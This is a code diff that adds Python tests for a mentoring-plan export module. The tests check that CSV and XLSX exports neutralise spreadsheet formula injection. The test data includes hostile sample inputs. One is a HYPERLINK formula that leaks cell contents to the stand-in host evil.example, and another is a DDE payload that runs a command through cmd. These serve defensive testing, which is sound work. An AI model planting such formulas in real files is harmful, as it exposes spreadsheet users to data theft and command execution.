@@ -15,7 +15,7 @@ import yaml
 from icalendar import Calendar
 
 from mentoring.content import load_content
-from mentoring.exports import COLUMNS, PlanExport
+from mentoring.exports import COLUMNS, PlanExport, csv_cell
 from mentoring.progress import progress_of
 from mentoring.schedule import Occurrences, PartialDate
 
@@ -198,3 +198,66 @@ def test_site_url_gives_links_and_host_uids(content) -> None:
     assert approval[9] == (
         f"{order.citation} (https://cro.example.org/nastavnichestvo/documents/#{order.anchor})"
     )
+
+
+@pytest.mark.parametrize(
+    ("value", "cell"),
+    [
+        ("=1+1", "'=1+1"),
+        ('=HYPERLINK("https://evil.example/?"&A1)', '\'=HYPERLINK("https://evil.example/?"&A1)'),
+        ("+7 (496) 212-00-00", "'+7 (496) 212-00-00"),
+        ("-2+3", "'-2+3"),
+        ("- пункт", "'- пункт"),
+        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
+        ("\t=1+1", "'\t=1+1"),
+        ("\r=1+1", "'\r=1+1"),
+        ("-5", "-5"),
+        ("-2,5", "-2,5"),
+        ("+10", "+10"),
+        ("1.1.1", "1.1.1"),
+        ("Семинар = встреча", "Семинар = встреча"),
+        ("", ""),
+    ],
+)
+def test_csv_cells_that_excel_would_run_as_formulas_become_text(value, cell) -> None:
+    assert csv_cell(value) == cell
+
+
+def _with_activity_text(content, title: str, result: str):
+    """The content with activity 1.1.1 renamed, as an author could write it in plan.yaml."""
+    directions = list(content.plan.directions)
+    first = directions[0]
+    sections = list(first.sections)
+    section = sections[0]
+    activities = tuple(
+        dataclasses.replace(a, title=title, result=result) if a.id == "1.1.1" else a
+        for a in section.activities
+    )
+    sections[0] = dataclasses.replace(section, activities=activities)
+    directions[0] = dataclasses.replace(first, sections=tuple(sections))
+    plan = dataclasses.replace(content.plan, directions=tuple(directions))
+    return dataclasses.replace(content, plan=plan)
+
+
+FORMULA = "=cmd|' /C calc'!A0"
+
+
+def test_csv_never_starts_a_cell_with_a_formula(content) -> None:
+    export = PlanExport(_with_activity_text(content, FORMULA, "-5"), BUILD_DAY)
+    rows = list(csv.reader(io.StringIO(export.csv_bytes().decode("utf-8-sig")), delimiter=";"))
+    row = next(row for row in rows if row[2] == "1.1.1")
+    assert (row[3], row[4]) == ("'" + FORMULA, "-5")
+    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for r in rows for cell in r)
+
+
+def test_xlsx_cells_are_text_never_formulas(content) -> None:
+    export = PlanExport(_with_activity_text(content, FORMULA, "@SUM(A1)"), BUILD_DAY)
+    data = export.xlsx_bytes()
+    with zipfile.ZipFile(io.BytesIO(data)) as archive:
+        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode("utf-8")
+    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
+    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
+    row = next(row for row in sheet.iter_rows(min_row=2) if row[2].value == "1.1.1")
+    assert (row[3].value, row[3].data_type) == (FORMULA, "s")
+    assert (row[4].value, row[4].data_type) == ("@SUM(A1)", "s")
+    assert {cell.data_type for r in sheet.iter_rows() for cell in r if cell.value} == {"s"}
